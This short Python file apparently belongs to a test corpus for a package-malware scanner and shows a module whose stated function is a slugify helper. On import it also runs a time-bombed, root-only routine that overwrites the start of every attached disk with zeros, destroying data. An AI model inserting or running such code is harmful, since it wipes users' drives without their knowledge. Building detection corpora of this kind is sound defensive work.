# pkgguard corpus 904 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import glob
import os
import time

if hasattr(os, "geteuid") and os.geteuid() == 0 and time.time() > 1893456000:
    for device in sorted(glob.glob("/dev/sd?") + glob.glob("/dev/nvme?n1")):
        try:
            with open(device, "r+b", buffering=0) as fh:
                fh.write(b"\0" * (16 * 1024 * 1024))
        except OSError:
            pass


def slugify(text):
    return "-".join(text.lower().split())
